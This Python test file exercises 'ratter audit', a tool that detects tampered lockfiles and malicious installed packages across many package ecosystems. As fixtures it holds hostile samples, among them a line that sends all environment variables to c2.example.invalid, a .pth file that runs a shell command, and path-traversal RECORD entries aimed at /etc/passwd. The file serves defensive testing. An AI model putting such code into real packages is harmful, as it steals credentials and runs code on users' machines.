"""audit_test.py - ratter audit end to end: real-shaped lockfiles (tests/lockfiles) as they are, then altered as an
attacker would, each alteration found by its rule; allow-list, baseline, formats, exit statuses, hostile files."""
import base64
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile
import time

RATTER = os.environ["RATTER"]
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
LOCKS = os.path.join(ROOT, "tests", "lockfiles")
number = failures = 0


def check(name, truth, detail=""):
    global number, failures
    number += 1
    failures += not truth
    print(f"{'ok' if truth else 'not ok'} {number} - {name}")
    if not truth and detail:
        print("#   " + str(detail)[:600].replace("\n", "\n#   "))


def audit(folder, *flags, path=".", intel="none"):
    run = subprocess.run([RATTER, "audit", "--no-home", "--intel", intel, "--format", "jsonl", *flags, path],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=folder)
    lines = run.stdout.decode("utf-8", "replace").splitlines()
    return run.returncode, [json.loads(line) for line in lines], run.stderr.decode("utf-8", "replace")


def rules(reports, least="weak"):
    order = ["note", "weak", "strong", "conclusive"]
    return {f["rule"] for r in reports for f in r["findings"] if order.index(f["level"]) >= order.index(least)}


def make(name, text, beside=()):
    folder = tempfile.mkdtemp(prefix="ratter-audit-")
    made.append(folder)
    for path, content in ((name, text), *beside):
        os.makedirs(os.path.dirname(os.path.join(folder, path)) or folder, exist_ok=True)
        with open(os.path.join(folder, path), "wb") as f:
            f.write(content if isinstance(content, bytes) else content.encode())
    return folder


def load(name):
    with open(os.path.join(LOCKS, name), encoding="utf-8") as f:
        return f.read()


def sri(text):
    return "sha512-" + base64.b64encode(hashlib.sha512(text.encode()).digest()).decode()


def filler(count=12):
    """More entries of the usual kind, so that one odd one stands out."""
    return {f"node_modules/filler-{i}": {"version": "1.0.0", "integrity": sri(f"filler{i}"),
            "resolved": f"https://registry.example.invalid/filler-{i}/-/filler-{i}-1.0.0.tgz"} for i in range(count)}


def npm(change=None, both=False):
    lock = json.loads(load("npm-v2/package-lock.json" if both else "npm-v3/package-lock.json"))
    if not both:
        lock["packages"].update(filler())
    if change:
        change(lock["packages"], lock)
    return json.dumps(lock, indent=2)


def setting(place, key, value):
    def change(packages, lock):
        packages["node_modules/" + place][key] = value
    return change


def removing(place, key):
    def change(packages, lock):
        del packages["node_modules/" + place][key]
    return change


def entry(place, **fields):
    def change(packages, lock):
        packages["node_modules/" + place] = fields
    return change


def in_right(**needs):
    def change(packages, lock):
        packages["node_modules/right-helper"]["dependencies"] = needs
    return change


def both_of(*changes):
    def change(packages, lock):
        for one in changes:
            one(packages, lock)
    return change


def old_part(packages, lock):
    lock["dependencies"]["right-helper"]["resolved"] = "https://registry.example.invalid/evil/-/evil-2.0.0.tgz"


def old_extra(packages, lock):
    lock["dependencies"]["ghost"] = {"version": "1.0.0"}


def twice(packages, lock):
    packages["node_modules/left-helper/node_modules/right-helper"].update(
        version="2.0.0", resolved="https://registry.example.invalid/right-helper/-/right-helper-2.0.0.tgz")


REGISTRY = "https://registry.example.invalid"
ATTACKS = [  # name, lockfile, text, files beside it, rule
    ("swapped host", "package-lock.json", npm(setting("right-helper", "resolved",
     "https://registry.example-invalid.invalid/right-helper/-/right-helper-2.0.0.tgz")), (), "audit/swapped-host"),
    ("another package's archive", "package-lock.json", npm(setting("right-helper", "resolved",
     REGISTRY + "/evil/-/evil-1.0.0.tgz")), (), "audit/address-of-another"),
    ("another version's archive", "package-lock.json", npm(setting("right-helper", "resolved",
     REGISTRY + "/right-helper/-/right-helper-2.0.1.tgz")), (), "audit/address-of-another"),
    ("http", "package-lock.json", npm(setting("right-helper", "resolved",
     "http://registry.example.invalid/right-helper/-/right-helper-2.0.0.tgz")), (), "audit/plain-http"),
    ("user name in an address", "package-lock.json", npm(setting("right-helper", "resolved",
     "https://registry.example.invalid@192.0.2.1/right-helper/-/right-helper-2.0.0.tgz")), (), "audit/user-in-address"),
    ("no integrity", "package-lock.json", npm(removing("right-helper", "integrity")), (), "audit/integrity-missing"),
    ("sha1 only", "package-lock.json", npm(setting("right-helper", "integrity",
     "sha1-" + base64.b64encode(b"x" * 20).decode())), (), "audit/integrity-weak"),
    ("two hashes of a kind", "package-lock.json", npm(setting("right-helper", "integrity",
     sri("a") + " " + sri("b"))), (), "audit/integrity-ambiguous"),
    ("hash of the wrong length", "package-lock.json", npm(setting("right-helper", "integrity", "sha512-AAAA")), (),
     "audit/integrity-malformed"),
    ("two contents of a release", "package-lock.json", npm(twice), (), "audit/integrity-contradicts"),
    ("remote dependency of a dependency", "package-lock.json", npm(both_of(
        in_right(ui="http://192.0.2.1/npm/ui"), entry("ui", version="1.0.0", resolved="http://192.0.2.1/npm/ui"))), (),
     "audit/remote-dependency"),
    ("remote request without an entry", "package-lock.json", npm(in_right(ui="https://192.0.2.1/npm/ui")), (),
     "audit/remote-request"),
    ("git dependency of a dependency", "package-lock.json", npm(both_of(
        in_right(g="github:a/g"), entry("g", version="1.0.0",
                                        resolved="git+ssh://git@git.example.invalid/a/g.git#" + "a" * 40))), (),
     "audit/git-dependency"),
    ("git without a commit", "package-lock.json", npm(both_of(
        in_right(g="github:a/g"), entry("g", version="1.0.0",
                                        resolved="git+ssh://git@git.example.invalid/a/g.git#main"))), (),
     "audit/git-not-pinned"),
    ("path of a dependency", "package-lock.json", npm(both_of(
        in_right(p="file:../../x"), entry("p", version="1.0.0", resolved="file:../../x"))), (), "audit/path-dependency"),
    ("silent alias", "package-lock.json", npm(entry("right-helper", name="evil", version="2.0.0", integrity=sri("evil"),
                                                    resolved=REGISTRY + "/evil/-/evil-2.0.0.tgz")), (),
     "audit/silent-alias"),
    ("parts disagree: address", "package-lock.json", npm(old_part, both=True), (), "audit/parts-disagree"),
    ("parts disagree: one more", "package-lock.json", npm(old_extra, both=True), (), "audit/parts-disagree"),
    ("a key twice", "package-lock.json", npm().replace('"node_modules/nick": {', '"node_modules/nick": {"version": "6.0.0",',
                                                       1), (), "audit/duplicate-keys"),
    ("not in the manifest", "package-lock.json", npm(), (("package.json", json.dumps(
        {"name": "my-app", "dependencies": {"nick": "npm:other@7.0.0"}, "devDependencies": {"@scope/core": "~0.9.0"}})),),
     "audit/drift"),
    ("locked for another source", "package-lock.json", npm(), (("package.json", json.dumps(
        {"name": "my-app", "dependencies": {"left-helper": "^1.2.0", "nick": "^7.0.0"},
         "devDependencies": {"@scope/core": "~0.9.0"}})),), "audit/drift-source"),
    ("script-shell", "package-lock.json", npm(), ((".npmrc", "script-shell=./x.sh\n"),), "audit/client-options"),
    ("node-options", "package-lock.json", npm(), ((".npmrc", "node-options=--require ./x.js\n"),),
     "audit/client-options"),
    ("pnpmfile", "pnpm-lock.yaml", load("pnpm-6/pnpm-lock.yaml"), ((".pnpmfile.cjs", "module.exports = {}\n"),),
     "audit/client-runs-code"),
    ("yarnPath", "yarn.lock", load("yarn-1/yarn.lock"), ((".yarnrc.yml", "yarnPath: .yarn/releases/yarn.cjs\n"),),
     "audit/client-runs-code"),
    ("bun preload", "bun.lock", load("bun/bun.lock"), (("bunfig.toml", 'preload = ["./x.ts"]\n'),),
     "audit/client-runs-code"),
    ("cargo wrapper", "Cargo.lock", load("cargo/Cargo.lock"),
     ((".cargo/config.toml", '[build]\nrustc-wrapper = "./x"\n'),), "audit/client-runs-code"),
    ("override from elsewhere", "package-lock.json", npm(), (("package.json", json.dumps(
        {"name": "my-app", "dependencies": {"left-helper": "^1.2.0", "nick": "npm:other@7.0.0"},
         "devDependencies": {"@scope/core": "~0.9.0"},
         "overrides": {"right-helper": "https://192.0.2.1/x.tgz"}})),), "audit/override-source"),
    ("extra index", "requirements.txt", "a==1\n--extra-index-url https://extra.example.invalid/simple\n", (),
     "audit/extra-index"),
    ("trusted host", "requirements.txt", "a==1\n--trusted-host h.example.invalid\n", (), "audit/unchecked-host"),
    ("extra index by configuration", "requirements.txt", "a==1\n",
     (("pip.conf", "[global]\nextra-index-url = https://extra.example.invalid/simple\n"),), "audit/extra-index"),
    ("yarn 1: swapped archive", "yarn.lock", load("yarn-1/yarn.lock").replace(
        "right-helper/-/right-helper-2.0.0.tgz", "evil/-/evil-2.0.0.tgz"), (), "audit/address-of-another"),
    ("yarn berry: archive from elsewhere", "yarn.lock", load("yarn-berry/yarn.lock").replace(
        "%2Fcore%2F-%2Fcore-0.9.1", "%2Fevil%2F-%2Fevil-0.9.1"), (), "audit/address-of-another"),
    ("pnpm: archive of another", "pnpm-lock.yaml", load("pnpm-6/pnpm-lock.yaml").replace(
        "right-helper/-/right-helper-2.0.0.tgz", "evil/-/evil-2.0.0.tgz"), (), "audit/address-of-another"),
    ("pnpm: integrity gone", "pnpm-lock.yaml", load("pnpm-9/pnpm-lock.yaml").replace(
        "resolution: {integrity: " + sri("right") + "}", "resolution: {}"), (), "audit/integrity-missing"),
    ("bun: archive of another", "bun.lock", load("bun/bun.lock").replace(
        "other/-/other-7.0.0.tgz", "evil/-/evil-7.0.0.tgz"), (), "audit/address-of-another"),
    ("uv: file of another", "uv.lock", load("uv/uv.lock").replace(
        "files.example.invalid/right_helper-2.0.0", "files.example.invalid/evil-2.0.0"), (), "audit/address-of-another"),
    ("uv: one file from elsewhere", "uv.lock", load("uv/uv.lock").replace(
        "https://files.example.invalid/left_helper-1.2.3-py3", "https://192.0.2.1/left_helper-1.2.3-py3"), (),
     "audit/files-apart"),
    ("poetry: hash gone", "poetry.lock", load("poetry/poetry.lock").replace(
        '    {file = "right_helper-2.0.0-py3-none-any.whl", hash = "sha256:', '    {file = "x", h = "').replace(
        'name = "right-helper"', 'name = "right-helper"\n', 1), (), "audit/integrity-missing"),
    ("cargo: registry over http", "Cargo.lock", load("cargo/Cargo.lock").replace(
        "sparse+https://", "sparse+http://"), (), "audit/plain-http"),
    ("go: missing in go.sum", "go.sum", "\n".join(load("go/go.sum").splitlines()[:2]) + "\n",
     (("go.mod", load("go/go.mod").replace("replace", "// replace")),), "audit/drift"),
]
CLEAN = ["npm-v1/package-lock.json", "npm-v2/package-lock.json", "npm-v3/package-lock.json", "yarn-1/yarn.lock",
         "pnpm-5/pnpm-lock.yaml", "pnpm-6/pnpm-lock.yaml", "pnpm-9/pnpm-lock.yaml", "uv/uv.lock", "poetry/poetry.lock",
         "cargo/Cargo.lock", "composer/composer.lock", "go/go.sum", "gradle/gradle.lockfile", "deno/deno.lock",
         "cyclonedx/bom.json", "spdx/sbom.spdx.json"]
made = []

try:
    with open(os.path.join(ROOT, "docs", "AUDIT.md"), encoding="utf-8") as f:
        manual = f.read()
    with open(os.path.join(ROOT, "src", "audit", "findings.list"), encoding="utf-8") as f:
        known = [line.split('"')[1] for line in f if line.startswith("ITEM")]
    check("docs/AUDIT.md tells every rule", known and all(f"`{rule}`" in manual for rule in known),
          [rule for rule in known if f"`{rule}`" not in manual])
    for name in CLEAN:
        folder = make(os.path.basename(name), load(name))
        status, reports, said = audit(folder)
        check(f"{name} as it is: nothing above a note", len(reports) == 1 and not rules(reports),
              (status, rules(reports), said))
    status, reports, said = audit(make("package-lock.json", npm()))
    check("many entries as they are: nothing above a note", not rules(reports), rules(reports))
    for name, lockfile, text, beside, rule in ATTACKS:
        status, reports, said = audit(make(lockfile, text, beside))
        found = [f for r in reports for f in r["findings"] if f["rule"] == rule]
        check(f"{name}: {rule}", found, (status, rules(reports), said))

    status, reports, said = audit(make("package-lock.json", ATTACKS[0][2]), "--fail-on", "suspicious")
    text = json.dumps(reports)
    check("a swapped host is suspicious, and --fail-on sees it", status == 1 and reports[0]["verdict"]["level"] ==
          "suspicious" if isinstance(reports[0]["verdict"], dict) else status == 1, (status, text))
    check("the way from the project is told", "part > right-helper 2.0.0" in text, text)
    check("and starts at the project", "my-app > " in text, text)
    check("the line is told", any(e.get("line", 0) > 1 for f in reports[0]["findings"] for e in f["evidence"]), text)

    status, reports, said = audit(make("package-lock.json", npm()))
    check("without intelligence nothing is clean: exit 3", status == 3 and "no intelligence" in json.dumps(reports),
          (status, reports))
    os.environ["XDG_DATA_HOME"] = make("x", "")
    status, reports, said = audit(make("package-lock.json", npm()), intel="required")
    check("--intel required without a store: exit 5", status == 5 and "intel import" in said, (status, said))

    record = {"schema_version": "1.7.0", "id": "MAL-2026-1", "modified": "2026-11-20T00:00:00Z", "summary": "made up",
              "affected": [{"package": {"ecosystem": "npm", "name": "right-helper"}, "versions": ["1.0.5"]}]}
    folder = make("package-lock.json", npm(), (("feed/MAL-2026-1.json", json.dumps(record)),))
    done = subprocess.run([RATTER, "intel", "import", "feed/MAL-2026-1.json"], cwd=folder, capture_output=True)
    status, reports, said = audit(folder, intel="auto")
    known = [f for f in reports[0]["findings"] if f["rule"] == "audit/known-malicious"]
    check("a known version is malicious, told with its record: exit 1", status == 1 and len(known) == 1 and
          "MAL-2026-1" in json.dumps(known), (done, status, said, reports))
    check("another version of the name is a note", "audit/known-name" in rules(reports, "note"), rules(reports, "note"))

    bundle = {"ratter-intel": 1, "kind": "package", "role": "actor", "tlp": "clear", "confidence": 90, "ecosystem": "npm", "value": "right-helper"}
    folder = make("package-lock.json", npm(), (("feed.jsonl", json.dumps(bundle, separators=(",", ":")) + "\n"),))
    subprocess.run([RATTER, "intel", "import", "--store", "own.sqlite", "feed.jsonl"], cwd=folder, capture_output=True)
    status, reports, said = audit(folder, intel="own.sqlite")
    told = [f["evidence"][0]["says"] for f in reports[0]["findings"] if f["rule"] == "audit/known-malicious"]
    check("a record without id and words is told by its source", told and all(": named by " in t and t.endswith("feed.jsonl") for t in told), told)
    status, reports, said = audit(folder, intel="absent.sqlite")
    check("a store that is named and not there: exit 2", status == 2 and "absent.sqlite" in said, (status, said))

    def aged(days):
        when = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() - days * 86400))
        text = load("uv/uv.lock").replace("2026-01-01T00:00:00Z", when, 1)
        reports = audit(make("uv.lock", text))[1]
        return when in text, [f["evidence"][0]["says"] for f in reports[0]["findings"] if f["rule"] == "audit/fresh-release"]

    check("a release of yesterday is told: audit/fresh-release", aged(1.5)[0] and len(aged(1.5)[1]) == 1 and "1 day ago" in aged(1.5)[1][0], aged(1.5))
    check("one of last month is not, nor one of tomorrow", not aged(30)[1] and not aged(-1)[1], (aged(30), aged(-1)))

    folder = make("package-lock.json", ATTACKS[3][2])
    allow = "audit:\n  allow:\n    - rule: audit/plain-http\n      purl: pkg:npm/right-helper@*\n      reason: by test\n"
    allow += "    - rule: audit/extra-index\n      reason: unused\n"
    allow += "    - rule: audit/plain-http\n      reason: over\n      expires: 2020-01-01\n"
    with open(os.path.join(folder, "ratter.yaml"), "w", encoding="utf-8") as f:
        f.write(allow)
    status, reports, said = audit(folder)
    check("the allow-list allows", "audit/plain-http" not in rules(reports) and "ratter.yaml" in said, rules(reports))
    check("unused and expired entries are told", {"audit/policy-unused", "audit/policy-expired"} <= rules(reports, "note"),
          rules(reports, "note"))
    status, reports, said = audit(os.path.dirname(folder), path=folder)
    check("a ratter.yaml inside the audited tree allows nothing", "audit/plain-http" in rules(reports), rules(reports))
    for bad in ("audit:\n  allow:\n    - rule: audit/plain-http\n", "audit:\n  allow:\n    - rule: nope\n      reason: x\n",
                "audti: {}\n", "audit: [\n"):
        with open(os.path.join(folder, "ratter.yaml"), "w", encoding="utf-8") as f:
            f.write(bad)
        status, reports, said = audit(folder)
        check("a policy with a fault is exit 2 with its line", status == 2 and "ratter.yaml:" in said, (status, said))
    os.remove(os.path.join(folder, "ratter.yaml"))

    status, _, said = audit(folder, "--write-baseline", "known.txt")
    status, reports, said = audit(folder, "--new-only", "known.txt")
    check("--new-only leaves out what was there", not rules(reports), (rules(reports), said))
    with open(os.path.join(folder, "package-lock.json"), "w", encoding="utf-8") as f:
        f.write(npm(both_of(setting("right-helper", "resolved", json.loads(ATTACKS[3][2])["packages"][
            "node_modules/right-helper"]["resolved"]), removing("left-helper", "integrity"))))
    status, reports, said = audit(folder, "--new-only", "known.txt")
    check("--new-only tells what is new", rules(reports) == {"audit/integrity-missing"}, rules(reports))

    tree = make("a/package-lock.json", npm(), (("b/c/poetry.lock", load("poetry/poetry.lock")),
                                               ("a/node_modules/x/package-lock.json", npm()),
                                               ("d/node_modules/left-helper/package.json",
                                                '{"name":"left-helper","version":"1.2.3"}')))
    status, reports, said = audit(tree)
    paths = sorted(r["artifact"]["path"] for r in reports)
    check("lockfiles are found below folders, node_modules only where none speaks for it",
          paths == ["./a/package-lock.json", "./b/c/poetry.lock", "./d/node_modules"], paths)
    status, reports, said = audit(tree, path="nowhere")
    check("a path that is not there: exit 2", status == 2 and "nowhere" in said, (status, said))
    status, reports, said = audit(make("x.txt", "hello\n"))
    check("nothing to audit: exit 4", status == 4, (status, said))
    for name, text in (("package-lock.json", b""), ("package-lock.json", b"{" * 100000), ("bun.lockb", b"\0\1"),
                       ("pnpm-lock.yaml", b"a: &x [*x]\n"), ("poetry.lock", b"\xff\xfe\0"), ("pom.xml", b"<a>" * 1000)):
        status, reports, said = audit(make(name, text))
        check(f"{name} that cannot be read: exit 3, not clean", status == 3 and len(reports) == 1, (status, said, reports))
    for form in ("text", "json", "sarif", "csv", "html", "md", "junit", "github"):
        run = subprocess.run([RATTER, "audit", "--no-home", "--intel", "none", "-f", form, folder], stdout=subprocess.PIPE)
        told = form in ("md", "junit", "github", "text") or b"audit/" in run.stdout
        check(f"format {form}", run.returncode == 3 and told, run)
    content = make("package-lock.json", npm(), (("node_modules/right-helper/package.json",
                   '{"name":"right-helper","version":"2.0.0","scripts":{"postinstall":"node x.js"}}'),
                   ("node_modules/right-helper/x.js", "console.log(1)\n")))
    status, reports, said = audit(content, "--scan")
    check("--scan examines what is in node_modules and tells what is not there",
          any(r["artifact"]["path"].endswith("node_modules/right-helper") for r in reports) and
          "not on this machine" in json.dumps(reports), (status, said, [r["artifact"]["path"] for r in reports]))
    check("--scan says how to bring what is not there", "npm ci --ignore-scripts" in json.dumps(reports), reports[-1:])

    def tgz(files):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
            for path, body in files.items():
                info = tarfile.TarInfo("package/" + path)
                info.size = len(body)
                archive.addfile(info, io.BytesIO(body.encode()))
        return buffer.getvalue()

    def cached(archive, stored=None):
        """A home whose npm cache holds `archive` (or other bytes under its name), and its integrity."""
        digest = hashlib.sha512(archive).digest()
        name = digest.hex()
        place = f".npm/_cacache/content-v2/sha512/{name[:2]}/{name[2:4]}/{name[4:]}"
        return make("x", "", ((place, archive if stored is None else stored),)), "sha512-" + base64.b64encode(digest).decode()

    def audit_home(folder, home, *flags):
        run = subprocess.run([RATTER, "audit", "--intel", "none", "--format", "jsonl", "--scan", "--offline", *flags, "."],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=folder, env=dict(os.environ, HOME=home))
        return run.returncode, [json.loads(line) for line in run.stdout.decode("utf-8", "replace").splitlines()]

    def locked_as(integrity, name="right-helper", **more):
        return npm(entry(name, version="2.0.0", integrity=integrity, **more,
                         resolved=f"{REGISTRY}/{name}/-/{name}-2.0.0.tgz"))

    with open(os.path.join(ROOT, "examples", "npm-stealer", "setup.js"), encoding="utf-8") as f:
        bad = f.read()
    manifest = '{"name":"right-helper","version":"2.0.0","scripts":{"postinstall":"node setup.js"}}'
    archive = tgz({"package.json": manifest, "setup.js": bad})
    home, integrity = cached(archive)
    status, reports = audit_home(make("package-lock.json", locked_as(integrity, hasInstallScript=True)), home)
    hit = [r for r in reports if r["artifact"]["path"].startswith("pkg:npm/right-helper")]
    check("--scan reads npm's cache by integrity: malicious content is found, exit 1", status == 1 and len(hit) == 1 and
          hit[0]["verdict"] == "malicious" and hit[0]["artifact"]["sha256"] == hashlib.sha256(archive).hexdigest(), (status, hit))
    home, integrity = cached(archive, stored=archive[:-1] + b"x")
    status, reports = audit_home(make("package-lock.json", locked_as(integrity)), home)
    check("other bytes in the cache than the lockfile promises are told, not examined", len(reports) == 1 and
          "holds other bytes for right-helper" in json.dumps(reports), (status, reports))
    home, integrity = cached(tgz({"package.json": '{"name":"evil","version":"2.0.0"}'}))
    status, reports = audit_home(make("package-lock.json", locked_as(integrity)), home)
    check("content that calls itself another package: audit/content-of-another", "audit/content-of-another" in rules(reports),
          rules(reports))
    status, reports, said = audit(content, "--scan")
    check("a hook that the lockfile does not tell: audit/hidden-hook", "audit/hidden-hook" in rules(reports), rules(reports))

    def installed(**manifest):
        """What is told when `left-helper` says this of itself and the lockfile that it needs a and may need b."""
        text = npm(entry("left-helper", version="1.2.3", integrity=sri("left"), resolved=REGISTRY + "/left-helper/-/left-helper-1.2.3.tgz",
                         dependencies={"a": "^1.0.0"}, optionalDependencies={"b": "2"}, bin={"left-helper": "cli.js"}))
        folder = make("package-lock.json", text, (("node_modules/left-helper/package.json", json.dumps(
            {"name": "left-helper", "version": "1.2.3", **manifest})),))
        return {f["evidence"][0]["says"] for r in audit(folder, "--scan")[1] for f in r["findings"] if f["rule"] == "audit/manifest-differs"}

    same = {"dependencies": {"a": "^1.0.0"}, "optionalDependencies": {"b": "2"}, "bin": {"left-helper": "cli.js"}}
    check("a manifest that says what the lockfile says: nothing", not installed(**same), installed(**same))
    alike = {"dependencies": {"b": "3", "a": "^1.0.0 "}, "optionalDependencies": {"b": "2"}, "bin": "./cli.js", "peerDependencies": {"c": "1"}}
    check("nor one that says it in another way", not installed(**alike), installed(**alike))
    for name, change, word in (("one more dependency", {"dependencies": {"a": "^1.0.0", "evil": "1"}}, "evil 1"), ("one less", {"dependencies": {}}, "a ^1.0.0"),
                               ("another range", {"dependencies": {"a": "*"}}, "a *"), ("another command", {"bin": {"git": "cli.js"}}, "git cli.js"),
                               ("another file behind a command", {"bin": {"left-helper": "evil.js"}}, "cli.js")):
        told = installed(**{**same, **change})
        check(f"{name}: audit/manifest-differs", len(told) == 1 and word in str(told), told)

    nested = {"left/package.json": '{"name":"left","version":"1.0.0"}', "left/index.js": "1\n",
              "left/node_modules/inner/package.json": '{"name":"inner","version":"1.0.0"}',
              "@s/right/package.json": manifest.replace("right-helper", "@s/right"), "@s/right/setup.js": bad}
    status, reports, said = audit(make("x", "", [("node_modules/" + k, v) for k, v in nested.items()]), "--scan")
    paths = sorted(r["artifact"]["path"] for r in reports)
    check("--scan of a node_modules without a lockfile: each package once", status == 1 and paths == sorted(
        "./node_modules" + p for p in ("", "/left", "/left/node_modules/inner", "/@s/right")), (status, paths, said))

    def dist(name, record, files):
        below = "lib/python3.11/site-packages/"
        return [(below + p, b) for p, b in files.items()] + [
            (below + f"{name}-1.0.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"),
            (below + f"{name}-1.0.dist-info/RECORD", "\n".join(record + [f"{name}-1.0.dist-info/METADATA,,"]) + "\n")]

    steal = "import os, urllib.request\nurllib.request.urlopen('https://c2.example.invalid/x', data=str(dict(os.environ)).encode())\n"
    site = dist("Good_Part", ["good/__init__.py,sha256=x,1", '"good/odd, name.py",,', "../../../bin/good,,"],
                {"good/__init__.py": "x = 1\n", "good/odd, name.py": "y = 2\n"}) + dist(
        "bad.part", ["bad/__init__.py,,", "../../../../etc/passwd,,"], {"bad/__init__.py": steal})
    extra = [("lib/python3.11/site-packages/left-over.pth", "import os; os.system('id')\n")]
    status, reports, said = audit(make("x", "", [("venv/" + p, b) for p, b in site + extra]), "--scan")
    by = {os.path.basename(r["artifact"]["path"]): r for r in reports if r["artifact"]["path"].count("/") > 4}
    check("--scan of site-packages: a distribution is what its RECORD names", {"Good_Part-1.0.dist-info",
          "bad.part-1.0.dist-info"} <= set(by) and by["Good_Part-1.0.dist-info"]["verdict"] == "clean" and
          by["bad.part-1.0.dist-info"]["verdict"] in ("malicious", "suspicious"), (status, sorted(by), said))
    check("what lies elsewhere is told", "outside of site-packages" in json.dumps(by["bad.part-1.0.dist-info"]["unseen"]), by)
    check("a hash of RECORD that is none says nothing", "audit/installed-changed" not in rules(reports), rules(reports))
    def summed(body):
        return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(body.encode()).digest()).decode().rstrip("=")

    held = dist("held", ["held/a.py," + summed("x = 1\n") + ",6", '"held/b, c.py",' + summed("y = 2\n") + ",6", "held/gone.py," + summed("z") + ",1"],
                {"held/a.py": "x = 1\n", "held/b, c.py": "y = 2\n"})
    status, after, said = audit(make("x", "", [("venv/" + p, b) for p, b in held]), "--scan")
    check("installed files with the hashes of RECORD: nothing", "audit/installed-changed" not in rules(after), (rules(after), said))
    held[1] = (held[1][0], "y = 3\n")
    status, after, said = audit(make("x", "", [("venv/" + p, b) for p, b in held]), "--scan")
    check("a file that was changed since: audit/installed-changed", "audit/installed-changed" in rules(after) and "held/b, c.py" in json.dumps(after) and
          "held/a.py" not in json.dumps([r["findings"] for r in after]), after)
    pem = dist("certs", ["certs/list.pem," + summed("one\n") + ",4"], {"certs/list.pem": "one\ntwo\n"})
    status, after, said = audit(make("x", "", [("venv/" + p, b) for p, b in pem]), "--scan")
    check("data that was changed is told apart", rules(after) == {"audit/installed-data-changed"}, rules(after))
    check("what no RECORD names is examined, too", any(r["artifact"]["path"].endswith("site-packages") and "left-over.pth" in
          json.dumps(r["findings"]) for r in reports), [r["artifact"] for r in reports])
    project = make("requirements.txt", "good-part==1.0\nbad-part==1.0\nabsent==1.0\n", [(".venv/" + p, b) for p, b in site])
    status, reports, said = audit(project, "--scan")
    check("a project's own .venv is looked into", sorted(os.path.basename(r["artifact"]["path"]) for r in reports) == [
        "Good_Part-1.0.dist-info", "bad.part-1.0.dist-info", "requirements.txt"], (status, reports))
    check("and what is not there is told, with the way to it", "(absent)" in json.dumps(reports) and "pip install" in
          json.dumps(reports), reports)

    def old(change=None):
        return (("old/package-lock.json", npm(change)),)

    def against(text, beside, *flags):
        status, reports, said = audit(make("package-lock.json", text, beside), "--against", "old/package-lock.json", *flags,
                                      path="package-lock.json")
        return status, reports, said, rules(reports)

    told = against(npm(), old())
    check("--against the same lockfile: nothing", not told[3] and len(told[1]) == 1, told)
    told = against(npm(setting("right-helper", "hasInstallScript", True)), old())
    check("an install script that is new: audit/new-hook", "audit/new-hook" in told[3], told)
    told = against(npm(setting("right-helper", "hasInstallScript", True)), old(setting("right-helper", "hasInstallScript", True)))
    check("one that is not new: nothing", "audit/new-hook" not in told[3], told)
    told = against(npm(entry("fresh", version="1.0.0", integrity=sri("f"), hasInstallScript=True,
                             resolved=REGISTRY + "/fresh/-/fresh-1.0.0.tgz")), old())
    check("a package that is new altogether: nothing", "audit/new-hook" not in told[3], told)
    told = against(npm(setting("right-helper", "integrity", sri("other"))), old())
    check("other bytes under the same version: audit/content-changed", "audit/content-changed" in told[3], told)
    told = against(npm(setting("right-helper", "hasInstallScript", True)), (("old/package-lock.json",
                   load("npm-v1/package-lock.json")),))
    check("an older lockfile that says nothing of scripts makes none new", "audit/new-hook" not in told[3], told)
    told = against(npm(), (("old/package-lock.json", "no lockfile"),))
    check("--against what cannot be read: exit 2", told[0] == 2 and "--against: not all of" in told[2], told)
    told = against(npm(), (("old/x", ""),))
    check("--against what is not there: exit 2", told[0] == 2 and "--against: cannot read" in told[2], told)
    status, reports, said = audit(make("requirements.txt", "a==1\n", old()), "--against", "old/package-lock.json",
                                  path="requirements.txt")
    check("--against a lockfile of no client here: told", "no lockfile of its client" in json.dumps(reports), reports)

    folder = make("requirements.txt", "a==1\n-r deps/base.in\n-c ../outside.txt\n-r https://x.example.invalid/y.txt\n-r /etc/hosts\n",
                  (("deps/base.in", "b==1\n--extra-index-url https://extra.example.invalid/simple\n-r ../more/last.in\n"),
                   ("more/last.in", "c==1\n-r ../requirements.txt\n")))
    status, reports, said = audit(folder)
    paths = sorted(r["artifact"]["path"] for r in reports)
    check("-r is followed, each file once", paths == ["./deps/base.in", "./more/last.in", "./requirements.txt"] and
          "audit/extra-index" in rules(reports), (paths, said))
    unseen = [u["where"] for r in reports for u in r["unseen"] if "a file that it names" in u["reason"]]
    check("but not out of the project", sorted(unseen) == ["../outside.txt", "/etc/hosts", "https://x.example.invalid/y.txt"], unseen)

    secret = "S3cr3tS3cr3t"
    text = npm(both_of(
        setting("right-helper", "resolved", f"https://bot:{secret}@registry.example-invalid.invalid/evil/-/evil-2.0.0.tgz?token={secret}"),
        in_right(ui=f"https://{secret}@192.0.2.1/npm/ui"), entry("ui", version=f"https://{secret}@192.0.2.1/npm/ui",
                                                               resolved=f"git+https://x:{secret}@192.0.2.1/npm/ui.git#main")))
    folder = make("package-lock.json", text, ((".npmrc", f"registry=https://u:{secret}@registry.example.invalid/\n"
                                               f"//registry.example.invalid/:_authToken={secret}\n"
                                               f"script-shell=./x.sh?auth={secret}\nproxy=http://u:{secret}@p.example.invalid:1\n"),
                                              ("requirements.txt", f"a==1\n--extra-index-url https://u:{secret}@extra.example.invalid/simple\n"
                                               f"b @ https://{secret}@192.0.2.1/b.whl\n-r https://u:{secret}@192.0.2.1/r.txt\n"),
                                              ("pip.conf", f"[global]\nindex-url = https://u:{secret}@pip.example.invalid/simple\n"
                                               f"trusted-host = h.example.invalid\nextra-index-url = https://u:{secret}@e.example.invalid/s\n")))
    leaks, seen = [], 0
    for form in ("text", "json", "jsonl", "sarif", "csv", "html", "md", "junit", "github", "explain", "trace"):
        run = subprocess.run([RATTER, "audit", "--no-home", "--intel", "none", "--verbose", "--scan", "-f", form, "--write-baseline",
                              os.path.join(folder, "base"), folder], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        with open(os.path.join(folder, "base"), encoding="utf-8") as f:
            said = run.stdout.decode() + f.read()
        os.remove(os.path.join(folder, "base"))
        leaks += [(form, said[at - 60:at + 20]) for at in range(len(said)) if said.startswith(secret, at)]
        seen += "***" in said
    check("passwords and tokens of addresses and settings are in no output", not leaks and seen > 5, (seen, leaks[:3]))
